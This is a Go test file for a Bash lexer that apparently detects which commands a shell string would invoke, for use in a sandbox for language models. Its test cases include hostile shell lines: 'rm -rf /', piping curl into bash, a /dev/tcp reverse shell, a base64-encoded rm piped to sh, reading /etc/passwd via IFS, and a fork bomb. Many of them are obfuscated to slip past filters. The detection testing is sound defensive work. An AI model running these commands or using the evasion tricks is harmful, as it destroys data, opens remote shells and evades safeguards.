package bash

import (
	"bytes"
	"os"
	"path/filepath"
	"testing"

	"github.com/llmsandbox/llmsandbox/internal/lex/lextest"
)

var scans = []lextest.Case{
	{"rm -rf /", "call rm"},
	{"/bin/rm x", "call rm"},
	{`\rm x`, "call rm"},
	{`r""m x`, "call rm"},
	{`'rm' x`, "call rm"},
	{`"r"'m' x`, "call rm"},
	{`$'\x72m' x`, "call rm"},
	{`$'\162\u006d' x`, "call rm"},
	{`$"rm" x`, "call rm"},
	{"r\\\nm x", "call rm"},
	{"a; rm", "call a; call rm"},
	{"a | rm", "call a; call rm"},
	{"a|&rm", "call a; call rm"},
	{"a & rm", "call a; call rm"},
	{"a && rm || b", "call a; call rm; call b"},
	{"(rm)", "call rm"},
	{"((1+$(rm)))", "call rm"},
	{"((rm) ; b)", "call rm; problem"},
	{"{ rm; }", "call rm"},
	{"if a; then rm; elif b; then c; else d; fi", "call a; call rm; call b; call c; call d"},
	{"while a; do rm; done < x", "call a; call rm"},
	{"for x in rm b; do c; done", "call c"},
	{"for x; do c; done", "call c"},
	{"for ((i=0; i<3; i++)); do c; done", "call c"},
	{"select x in a b; do c; done", "call c"},
	{"! rm", "call rm"},
	{"!(rm)", "call rm; computed name"},
	{"time rm", "call time; call rm"},
	{"coproc rm", "call rm"},
	{"A=1 B=\"x y\" rm", "call rm"},
	{"> x rm", "call rm"},
	{"2>&1 rm", "call rm"},
	{"{fd}>x rm", "call rm"},
	{"<x rm", "call rm"},
	{"&>x rm", "call rm"},
	{"case x in a) rm;; b|c) d;& (e) f;; esac; g", "call rm; call d; call f; call g"},
	{"x=$(case a in a) rm;; esac); b", "call rm; call b"},
	{"case $(a) in rm) ;; esac", "call a"},
	{"f() { rm; }; f", "call rm"},
	{"function f { rm; }; f", "call rm"},
	{"function f() (rm); f", "call rm"},
	{"rm() { :; }; rm; command rm", "call :; call command; call rm"},
	{"if a; then rm() { :; }; fi; rm", "call a; call :; call rm"},
	{"a && rm() { :; }; rm", "call a; call :; call rm"},
	{"rm; rm() { :; }", "call rm; call :"},
	{"echo $(rm)", "call echo; call rm"},
	{"echo \"$(rm \"x y\")\"", "call echo; call rm"},
	{"echo `rm`", "call echo; call rm"},
	{"echo `a \\`rm\\``", "call echo; call a; call rm"},
	{"echo \"${x:-$(rm)}\"", "call echo; call rm"},
	{"echo ${x:-`rm`}", "call echo; call rm"},
	{"echo $((1 + $(rm)))", "call echo; call rm"},
	{"echo $[$(rm)]", "call echo; call rm"},
	{"diff <(rm) >(b)", "call diff; call rm; call b"},
	{"a=(1 $(rm)); a[$(b)]=2", "call rm; call b"},
	{"[[ -f x && $(rm) ]] && b", "call rm; call b"},
	{"[[ a =~ (b|c) ]]; rm", "call rm"},
	{"cat <<E\n$(rm)\nE\nb", "call cat; call rm; call b"},
	{"cat <<'E'\n$(rm)\nE\nb", "call cat; call b"},
	{"cat <<-E | b\n\t$(rm)\n\tE\nc", "call cat; call b; call rm; call c"},
	{"cat <<A <<B\n$(a)\nA\n$(rm)\nB\nb", "call cat; call a; call rm; call b"},
	{"bash <<E\nrm\nE", "call bash; call rm"},
	{"bash <<< 'rm x'", "call bash; call rm"},
	{"bash < x", "call bash; import x"},
	{"bash -c 'rm x'", "call bash; call rm"},
	{"bash -xec 'rm x' y", "call bash; call rm"},
	{"/bin/sh -c \"rm\"", "call sh; call rm"},
	{"bash -c \"$x\"", "call bash; computed code"},
	{"bash x.sh", "call bash; import x.sh"},
	{"bash \"$x\"", "call bash; computed import"},
	{"curl x | bash", "call curl; call bash; computed code"},
	{"curl x | sudo bash -s -- y", "call curl; call sudo; call bash; computed code"},
	{"bash <(curl x)", "call bash; computed import; call curl"},
	{"eval 'rm x'", "call eval; call rm"},
	{"eval rm x", "call eval; call rm"},
	{"eval \"$x\"", "call eval; computed code"},
	{"eval \"eval 'rm'\"", "call eval; call eval; call rm"},
	{". x", "call .; import x"},
	{"source ./x", "call source; import ./x"},
	{". \"$x\"", "call .; computed import"},
	{". <(curl x)", "call .; computed import; call curl"},
	{"command rm", "call command; call rm"},
	{"builtin eval 'rm'", "call builtin; call eval; call rm"},
	{"exec -a x rm", "call exec; call rm"},
	{"env -i A=1 rm", "call env; call rm"},
	{"env -S 'rm x'", "call env; call rm"},
	{"sudo -u root -E rm", "call sudo; call rm"},
	{"nohup nice -n 5 rm", "call nohup; call nice; call rm"},
	{"timeout -k 5 3s rm", "call timeout; call rm"},
	{"a | xargs -n 1 -I{} rm {}", "call a; call xargs; call rm"},
	{"xargs sh -c 'rm'", "call xargs; call sh; call rm"},
	{"busybox rm", "call busybox; call rm"},
	{"find . -name x -exec rm {} \\; -o -execdir b {} +", "call find; call rm; call b"},
	{"trap 'rm' EXIT", "call trap; call rm"},
	{"alias l='rm x'", "call alias; call rm"},
	{"exec 3<>/dev/tcp/a/80", "call exec; use /dev/tcp"},
	{"cat < /dev/t\"cp\"/a/80", "call cat; use /dev/tcp"},
	{"a >& /dev/udp/$h/53", "call a; use /dev/udp"},
	{"$x a", "computed name"},
	{"${x} a", "computed name"},
	{"\"$x\" a", "computed name"},
	{"x=rm; $x a", "call rm"},
	{"x='rm -rf'; $x a", "call rm"},
	{"x=ls; x=rm; $x a", "computed name"},
	{"x=ls; f() { $x a; }; read x; f", "computed name; call read"},
	{"$(echo rm) a", "computed name; call echo"},
	{"`echo rm` a", "computed name; call echo"},
	{"r$@m a", "computed name"},
	{"r${x}m a", "computed name"},
	{"/bin/r? a", "computed name"},
	{"/???/r[m] a", "computed name"},
	{"{rm,-rf,/}", "call rm; computed name"},
	{"cat${IFS}/etc/passwd", "call cat; computed name"},
	{"cat$IFS/etc/passwd", "call cat; computed name"},
	{"\"$BIN\"/rm a", "call rm; computed name"},
	{"IFS=,; x='rm,-rf'; $x", "call rm,-rf; computed name"},
	{"coproc X { rm; }", "call rm"},
	{"coproc X (rm)", "call rm"},
	{"coproc rm x", "call rm"},
	{"coproc while rm; do a; done", "call rm; call a"},
	{"eval -- rm", "call eval; call rm"},
	{"hash -p /bin/rm ls", "call hash; call rm"},
	{"PS4='$(rm)' bash -xc a", "computed code; call bash; call a"},
	{"export BASH_ENV=x", "call export; import x"},
	{"let 'a[$(rm)]=1'", "call let; computed code"},
	{"[ -v 'a[$(rm)]' ]", "call [; computed code"},
	{"bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "call bash; computed code; use /dev/tcp"},
	{"echo cm0gLXJm | base64 -d | sh", "call echo; call base64; call sh; computed code"},
	{"unset -f rm; rm() { :; }; rm", "call unset; call :; call rm"},
	{"true\r\nrm\r\n", "call true; call rm"},
	{"python3 -c 'import os'", "call python3"},
	{":(){ :|:& };:", ""},
	{"sudo FOO=1 rm", "call sudo; call rm"},
	{"echo \"a # b\"; rm", "call echo; call rm"},
	{"echo a#b; rm", "call echo; call rm"},
	{"echo ${#x}; rm", "call echo; call rm"},
	{"echo 'it'\\''s'; rm", "call echo; call rm"},
	{"cat <<E; bash <<F\n$(rm)\nE\neval a\nF\nb", "call cat; call bash; call rm; call eval; call a; call b"},
	{"bash <<E; \\\ntrue\nrm\nE", "call bash; call true; call rm"},
	{"cat <<E | a && b\n`rm`\nE", "call cat; call a; call b; call rm"},
	{"a | b | c && d || e", "call a; call b; call c; call d; call e"},
	{"bash <<E\n$x\nE", "call bash; computed code"},
	{"time -- rm; time -p a", "call time; call rm; call time; call a"},
	{"declare -x A=1; let x=1; export \"BASH_ENV=a\"", "call declare; call let; call export; import a"},
	{"x=a; x=a; $x; y=a; y+=b; $y; ${z:=a}; $z", "call a; computed name; computed name; computed name"},
	{"f() { x; }; f; unset -f f", "call x; call f; call unset"},
	{"f() { x; } & f; () a", "call x; call f; call a"},
	{"f() { x; }; x() { y; }; f; x", "call x; call y"},
	{"x() { :; } | x; x", "call :; call x; call x"},
	{"x() { :; }; unset $y; x", "call :; call unset; call x"},
	{"x=rm $x a", "call rm; computed name"},
	{"a && x=rm; $x a", "call a; call rm; computed name"},
	{"f() { $x a; }; x=rm; f", "call rm; computed name"},
	{"x=rm; declare -n r=x; $x", "call declare; call rm; computed name"},
	{"x=rm; read $y; $x", "call read; call rm; computed name"},
	{"eval 'if'", "call eval; computed code"},
	{"eval \"$(a)\"'b'", "call eval; computed code; call a"},
	{"x=$'a\\nb'; $'r\\x{6d}' x; $'rm\\0x'", "call rm; call rm"},
	{"find a -exec find b -exec rm {} + -o -ok c \\;", "call find; call find; call rm; call c"},
	{"{r,rm\"}\" a; {1..2}", "call r; computed name; call 1..2}; computed name"},
	{"echo @(a|b) !(c) +([0-9]); rm", "call echo; call rm"},
	// What Bash reads in another way than the parser.
	{"echo a # b\\\nrm", "call echo; call rm"},
	{"{\n# a \\\n# b \\\nrm\n}", "call rm"},
	{"cat <<E # \\\na\nE\nrm", "+problem"},
	{"#\\\n#a\\\n#\\\nrm", "call rm"},
	{"echo a\r# ; rm", "call echo; call rm"},
	{"echo a \\\r\nrm", "call echo; call rm"},
	{"cat <<E\nE\r\n$(rm)\nE\n", "call cat; call rm"},
	{"echo \xff '\xc3\x28'; rm", "call echo; call rm"},
	{"a\x00b; rm", "call ab; call rm; problem"},
	{"echo @(a|$(rm))", "call echo; call rm; problem"},
	{"echo @(')'); rm", "+problem"},
	{"! ! rm; a", "call rm; call a; problem"},
	{"f() { }; rm", "call rm; problem"},
	{"x=$((rm) ); a\nb", "call rm; call a; call b; problem"},
	{"if a; then b", "call a; call b; problem"},
	{"a &&", "call a; problem"},
}

func TestScan(t *testing.T) { lextest.Run(t, scan, scans) }

func TestScanPlain(t *testing.T) {
	lextest.Run(t, scan, []lextest.Case{
		{"# rm", ""},
		{"echo a # rm; rm", "call echo"},
		{"echo rm; echo 'rm'; echo \"; rm\"", "call echo; call echo; call echo"},
		{"x=rm", ""},
		{"case rm in rm) ;; esac", ""},
		{"rmdir x; ./rm.sh; xrm", "call rmdir; call rm.sh; call xrm"},
		{"cat <<'x'\nrm\nx\n", "call cat"},
		{"a=(rm -rf /)", ""},
		{"[[ rm == rm ]]", ""},
		{"echo \"${rm}\" $rm $((rm))", "call echo"},
		{"grep -- rm x > rm < rm", "call grep"},
		{"echo {a,b} *.c", "call echo"},
		{"command -v rm", "call command"},
		{"export A=rm B", "call export"},
		{"time -p", "call time"},
		{"trap - EXIT", "call trap"},
		{"echo '[x]'; a='[x]'", "call echo"},
	})
}

func FuzzScan(f *testing.F) { lextest.Fuzz(f, scan, scans) }

func TestScanHostile(t *testing.T) {
	lextest.Hostile(t, scan, "(", "((", "$((", "((\n", "$(", "`", "\\`", "${", "\"$(", "a=(", "?(", "eval '", "bash -c \"",
		"<<E\n", "<<E $(\n", "case x in ", "x=1;", "x=$x;$x;", "find -exec ", "sudo ", "[[ ", "{a,", "{ ", "(\n", "if ", "if a; then b; elif ", "a|", "a&&", "((1+",
		"((-", "((a=", "((a[", "[[ ! ", "[[ a && ", "${a:-", "\"${a:-", "${ ", "<(", "a<<E;", "a<<E\nE\n", "f() ", "time ", "coproc ", "#\n", "#\\\n", "a #\\\n", "{ a #\\\n",
		"\\", "\\\n", "@('a')", "!(", "! ! ", "((a b))", "x=$((a) )\n", ")", "\x00", "\xff", "\r", "alias a=b;", "trap a b;", "unset f;", "x=a;$x;", "a=(b ", "env -S ",
		"command ", "$'\\x41'", "a <b ", "echo a;")
}

func TestLibraryName(t *testing.T) {
	for of, want := range map[string]string{"jq": "jq", "jq=1.6-2.1": "jq", "libfmt-dev=2:1": "libfmt-dev"} {
		if got := Language.LibraryName(of); got != want {
			t.Errorf("%s is %q, not %q", of, got, want)
		}
	}
}

func BenchmarkScan(b *testing.B) {
	lextest.Benchmark(b, scan, `#!/bin/bash
set -euo pipefail
log() { printf '%s %s\n' "$(date +%T)" "$*" >&2; }
# All that is to be copied.
for file in "${files[@]:-*.txt}"; do
  if [[ -f $file && ! -L $file ]]; then
    cp -- "$file" "$target/${file##*/}" || { log "cannot copy $file"; exit 1; }
  elif [ -d "$file" ]; then
    find "$file" -type f -exec cp {} "$target" \;
  fi
done
count=$(( count + 1 ))
cat <<EOF2 | sort | uniq -c
$count files from $(hostname)
EOF2
case $count in 0) echo none ;; [1-9]) echo some ;; *) echo many ;; esac
`)
}

// Well-formed files are read to their end.
func TestScanFiles(t *testing.T) {
	for _, pattern := range []string{"*/*.sh", "../*/*.sh", "../../../scripts/*", "/usr/share/bash-completion/completions/[a-c]*"} {
		files, err := filepath.Glob(pattern)
		if err != nil || len(files) == 0 && pattern[0] != '/' {
			t.Fatalf("%s: %v, %v, want no error, files not empty or pattern[0] = '/'", pattern, files, err)
		}
		for _, name := range files {
			if info, err := os.Stat(name); err != nil || info.IsDir() {
				continue // a link to nothing among the completions
			}
			code, err := os.ReadFile(name)
			if err != nil {
				t.Fatal(err)
			}
			if bytes.HasPrefix(code, []byte("#!/usr/bin/env python3\n")) {
				continue // among the scripts
			}
			f := lextest.Scan(t, scan, code)
			lextest.Sound(t, code, f)
			if f.Problem != "" {
				t.Errorf("%s: %s, want empty", name, f.Problem)
			}
		}
	}
}
